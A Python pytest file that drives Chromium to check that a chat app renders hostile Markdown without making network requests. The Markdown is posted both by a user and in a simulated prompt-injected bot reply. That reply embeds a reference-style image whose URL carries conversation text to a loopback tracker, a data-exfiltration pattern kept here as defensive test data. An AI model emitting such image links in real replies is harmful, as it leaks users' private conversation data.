"""In a real Chromium: hostile Markdown, posted by a person and by a prompt-injected bot, fetches nothing.

A loopback "tracker" records every request it gets; Playwright's network log
is watched too. Tabs that joined, one that never joined, and one opened
after everything was posted (it gets the whole page at once) must all stay
silent towards the tracker.
"""

from __future__ import annotations

import asyncio
import subprocess
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.browser_support import (
    CHROMIUM,
    CHROMIUM_ARGS,
    artifacts_dir,
    join,
    luminance,
    missing_tools,
    open_confab,
    pixel,
    run_confab,
    wait_for_text,
)
from tests.confab_harness import Person
from tests.fake_openai import FakeOpenAI, tiny_png
from tests.hostile_markdown import HOSTILE

if (reason := missing_tools()) is not None:
    pytest.skip(reason, allow_module_level=True)
sync_api = pytest.importorskip("playwright.sync_api", reason="pip install playwright (never `playwright install`)")

pytestmark = pytest.mark.browser

DESKTOP = {"width": 1280, "height": 800}
DONE = "Zebra crossing finished"
"""Posted last: once a tab paints it, it has every hostile message before it."""


class Tracker:
    """A loopback HTTP server that answers every request with a PNG and remembers it."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        png = tiny_png()
        tracker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
                tracker.requests.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Access-Control-Allow-Origin", "*")  # make a fetch as easy as can be
                self.send_header("Content-Length", str(len(png)))
                self.end_headers()
                self.wfile.write(png)

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *args) -> None:
                pass

        self._httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._httpd.daemon_threads = True
        threading.Thread(target=self._httpd.serve_forever, daemon=True).start()
        self.origin = f"http://127.0.0.1:{self._httpd.server_address[1]}"

    def close(self) -> None:
        self._httpd.shutdown()
        self._httpd.server_close()


@pytest.fixture
def tracker():
    running = Tracker()
    yield running
    running.close()


@pytest.fixture
def fake_model():
    server = FakeOpenAI()
    yield server
    server.close()


def post_as(url: str, name: str, texts: list[str]) -> None:
    """A headless person (Flet's real protocol) joins and posts `texts`, from a thread of its own."""

    async def run() -> None:
        person = await Person.open(url)
        await person.join(name)
        for text in texts:
            await person.say(text, wait=False)
            await asyncio.sleep(0.05)
        await person.sees(DONE, timeout=30)
        await person.close()

    failure: list[BaseException] = []
    thread = threading.Thread(target=lambda: _capture(failure, lambda: asyncio.run(run())))
    thread.start()
    thread.join(120)
    assert not thread.is_alive(), "the headless poster hung"
    if failure:
        raise failure[0]


def _capture(failure: list, work) -> None:
    try:
        work()
    except BaseException as exc:  # handed to the test thread
        failure.append(exc)


def test_no_hostile_markdown_makes_a_browser_fetch(tmp_path, tracker, fake_model):
    injected = f"Here you go ![s][r]\n\n[r]: {tracker.origin}/?d=Mallory+said+the+code+is+1234"
    fake_model.reply(injected, words_per_second=30)
    forms = [h.format(t=tracker.origin + "/t") for h in HOSTILE]
    env = {"OPENAI_API_KEY": "sk-test", "OPENAI_BASE_URL": fake_model.base_url, "CHAT_BOT_MODEL": "fake"}
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        seen: list[str] = []
        try:
            log = artifacts_dir() / "server-markdown-no-fetch.log"
            with run_confab(tmp_path / "bot", tmp_path, log, **env) as url:
                contexts = [browser.new_context(viewport=DESKTOP, device_scale_factor=2) for _ in range(3)]
                for context in contexts:
                    context.on("request", lambda request: seen.append(request.url))
                reader = open_confab(contexts[0], url)
                join(reader, "Reader")
                lurker = open_confab(contexts[1], url)  # never joins: the name dialog stays up

                post_as(url, "Mallory", forms + ["@bot summarise the room please", DONE])
                wait_for_text(reader, DONE.lower(), timeout=60)
                wait_for_text(reader, "here you go", timeout=30)  # the bot's reply is painted
                late = open_confab(contexts[2], url)  # the whole conversation in its first page
                join(late, "Latecomer")
                wait_for_text(late, DONE.lower(), timeout=60)
                for page in (reader, lurker, late):
                    page.bring_to_front()
                    page.wait_for_timeout(1500)  # time for any image to be asked for
                reader.screenshot(path=str(artifacts_dir() / "markdown-hostile-reader.png"))
        finally:
            browser.close()
    assert tracker.requests == []
    assert [u for u in seen if u.startswith(tracker.origin)] == []
    assert any(u.startswith("http://127.0.0.1") for u in seen)  # the log did record the app's own requests


CODE = "def add(a, b):\n    return a + b  # arr[i](x)\n"


def word_top(page, word: str) -> float | None:
    """The CSS y of the first painted `word` tesseract finds (its TSV output has boxes), if any."""
    page.bring_to_front()
    png = page.screenshot()  # at device scale 2
    done = subprocess.run(["tesseract", "stdin", "stdout", "tsv"], input=png, capture_output=True, timeout=60)
    for line in done.stdout.decode("utf-8", "replace").splitlines()[1:]:
        cells = line.split("\t")
        if len(cells) == 12 and word in cells[11].lower():
            return (int(cells[7]) + int(cells[9]) / 2) / 2
    return None


CONVERSATION_LEFT = 221
"""Where the conversation starts at desktop width: right of the 220 px room list and its border."""


def has_left_bar(page, y: float) -> bool:
    """True when the strip left of the avatars (x 4-13 in the conversation), at height y, is darker than the page."""
    background = luminance(pixel(page, CONVERSATION_LEFT + 300, 70))  # clear of the centred join lines
    left = CONVERSATION_LEFT
    return any(background - luminance(pixel(page, left + x, int(y))) > 60 for x in range(4, 14))


def test_code_and_mentions_in_chromium(tmp_path):
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            log = artifacts_dir() / "server-code-and-mentions.log"
            with run_confab(tmp_path / "bot", tmp_path, log) as url:
                context = browser.new_context(
                    viewport=DESKTOP, device_scale_factor=2, permissions=["clipboard-read", "clipboard-write"]
                )
                reader = open_confab(context, url)
                join(reader, "Reader")
                post_as(url, "Ann", [
                    "Quiet words for everyone",
                    f"@Reader could you check:\n\n```python\n{CODE}```",
                    DONE,
                ])
                wait_for_text(reader, "copy python", DONE.lower(), timeout=60)
                reader.screenshot(path=str(artifacts_dir() / "code-and-mention-desktop.png"))
                mentioned, quiet = word_top(reader, "check"), word_top(reader, "quiet")
                assert mentioned is not None and quiet is not None
                assert has_left_bar(reader, mentioned)  # the message that mentions Reader stands out
                assert not has_left_bar(reader, quiet)

                reader.get_by_role("button", name="Copy python").click()
                deadline = time.monotonic() + 10
                while reader.evaluate("navigator.clipboard.readText()") != CODE:
                    assert time.monotonic() < deadline, "the code never reached the clipboard"
                    reader.wait_for_timeout(200)

                # Park the pointer on the app bar: left over the narrowed row, it would raise the
                # row's time tooltip over the Copy button being read.
                reader.mouse.move(5, 5)
                reader.set_viewport_size({"width": 390, "height": 844})
                wait_for_text(reader, "copy python", timeout=30)
                reader.screenshot(path=str(artifacts_dir() / "code-and-mention-phone.png"))
        finally:
            browser.close()
